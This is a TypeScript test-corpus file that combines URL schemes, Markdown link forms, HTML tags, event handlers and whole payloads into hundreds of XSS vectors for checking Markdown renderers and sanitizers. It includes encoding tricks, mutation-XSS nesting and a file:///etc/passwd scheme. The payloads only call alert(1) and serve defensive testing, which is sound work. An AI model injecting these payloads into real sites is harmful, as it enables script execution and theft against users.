/** What has made scripts run through Markdown renderers and sanitizers, by class; each class is a product of its parts. */

const SCHEMES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)',
  '&#0000106avascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'javascript\u200b:alert(1)',
  '%6aavascript:alert(1)', 'jav&#x09;ascript:alert(1)', 'jav&#x0A;ascript:alert(1)', 'jav&Tab;ascript:alert(1)', 'jav&NewLine;ascript:alert(1)',
  'javascript://bags.example/%0aalert(1)', 'javascript:/*--></title>*/alert(1)', 'vbscript:msgbox(1)', 'VBSCRIPT:x', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'DATA:image/svg+xml,<svg onload=alert(1)>', 'data:application/javascript,alert(1)',
  'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'blob:https://bags.example/1', 'file:///etc/passwd', 'livescript:alert(1)', 'mocha:alert(1)',
  '//elsewhere.example', '\\\\elsewhere.example', '/\\elsewhere.example', 'javascript:javascript:alert(1)', '\u202ejavascript:alert(1)',
];
const LINKS = ['[x](%)', '[x](<%>)', '[x](% "title")', '[x]( % )', '<%>', '[x][r]\n\n[r]: %', '![x](%)', '[![x](%)](%)', '[x](\'%\')', '> [x](%)', '- [x](%)', '%'];

const TAGS = [
  'script', 'SCRIPT', 'scr\0ipt', 'svg', 'math', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'input', 'button', 'img', 'video', 'audio', 'source',
  'details', 'template', 'noscript', 'noembed', 'noframes', 'textarea', 'title', 'xmp', 'plaintext', 'select', 'marquee', 'isindex', 'keygen', 'frameset', 'portal', 'a', 'p', 'x-y',
];
const HANDLERS = [
  ' onload=alert(1)', '/onload=alert(1)', ' src=x onerror=alert(1)', ' onmouseover="alert(1)"', ' autofocus onfocus=alert(1)', ' style=x:expression(alert(1))',
  ' href=javascript:alert(1)', ' srcdoc="<script>alert(1)</script>"', ' formaction=javascript:alert(1)', '\nonclick\n=\nalert(1)', ' open ontoggle=alert(1)', '',
];

const WHOLE = [
  '<script>alert(1)</script>', '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>', '<svg><script>alert&#40;1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<table><td background="javascript:alert(1)">', '<div style="background:url(javascript:alert(1))">',
  '<style>@import "javascript:alert(1)";</style>', '<base href="javascript:alert(1)//">', '<meta http-equiv=refresh content="0;javascript:alert(1)">', '\u2028<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", '`"><script>alert(1)</script>`', '``<script>`` <img src=x onerror=alert(1)>', '*<img src=x onerror=alert(1)>*',
  '[<img src=x onerror=alert(1)>](https://bags.example)', '[x](https://bags.example "<script>alert(1)</script>")', '[x](https://bags.example/"onmouseover="alert(1))',
  '[x](https://bags.example/\'onclick=\'alert(1))', 'https://bags.example/"onmouseover="alert(1)', 'https://bags.example/<script>alert(1)</script>', '<https://bags.example/"onload="alert(1)>',
  '<a@b.c" onclick="alert(1)>', 'www.bags.example"onclick="alert(1)', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\<script>alert(1)\\</script>',
  '<a href="https://bags.example" target=_blank>x</a>', '<p id=__proto__ name=constructor>', '> <script>\n> alert(1)\n> </script>', '- <img src=x\n  onerror=alert(1)>', '1. <svg\nonload=alert(1)>',
  '    <script>alert(1)</script>', '```html\n<script>alert(1)</script>\n```', '~~<img src=x onerror=alert(1)>~~', '| <script> | x |\n|-|-|\n| <img src=x onerror=alert(1)> | y |',
  '\u202e<script>alert(1)</script>', '\u200b<script>alert(1)</script>', '<\u0000script>alert(1)</script>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '\ufeff<svg onload=alert(1)>', '＜script＞alert(1)＜/script＞',
];

export const SCRIPT_CORPUS: readonly string[] = [
  ...LINKS.flatMap((link) => SCHEMES.map((scheme) => link.replaceAll('%', scheme))),
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag}${handler}>words</${tag}>`)),
  ...WHOLE,
  ...WHOLE.map((vector) => `${'> '.repeat(20)}${vector}`),
];
